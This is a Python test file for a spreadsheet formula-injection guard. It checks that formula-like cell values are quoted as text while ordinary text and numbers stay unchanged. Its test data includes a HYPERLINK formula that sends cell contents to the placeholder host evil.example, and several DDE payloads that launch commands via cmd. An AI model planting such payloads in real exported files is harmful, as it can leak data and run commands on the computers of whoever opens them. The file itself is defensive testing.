"""Spreadsheet cells: text that a spreadsheet would run as a formula is written as text; numbers stay."""

from __future__ import annotations

import csv
import io

import pytest

from concord.core.csvsafe import is_formula, safe_cell

FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "+cmd|' /C calc'!A0",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+2)",
    "@",
    "=",
    "+",
    "-",
    "\t=1+2",
    "\tplain text after a tab",
    "\r=1+2",
    "\rtext after a carriage return",
    "\n=1+2",
    " =1+2",
    "   +1+2",
    "\u00a0=1+2",  # no-break space
    "\u3000@SUM(A1)",  # ideographic space
    " \t -1+2",
    "-5-5",
    "+5e",
    "-1,00",  # not a number as written: grouping wrong
    "-0x10",
    "--5",
]
TEXT = [
    "",
    "Personal Data Act 2030",
    "a=b",
    "x + y",
    "Section 2 - Notification",
    "e-mail@example.org",
    "'=already quoted",
    "شق 2",
    "Seksyen 2",
    "   indented text",
]
NUMBERS = ["-5", "+5", "-3.25", "+0.5", "-.5", "-1,000", "-1,234,567.89", "-2e3", "+1E-4", "-0", "5", "0.82"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text):
    assert is_formula(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", TEXT)
def test_plain_text_is_left_alone(text):
    assert not is_formula(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_a_plain_number_stays_a_number(text):
    assert not is_formula(text)
    assert safe_cell(text) == text


def test_values_that_are_not_text_become_text():
    assert safe_cell(None) == ""
    assert safe_cell(-5) == "-5"
    assert safe_cell(0.125) == "0.125"
    assert safe_cell(True) == "True"


def test_a_guarded_cell_survives_a_csv_round_trip_as_the_same_text():
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell(t) for t in FORMULAS + TEXT + NUMBERS])
    read = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read == [("'" + t) for t in FORMULAS] + TEXT + NUMBERS
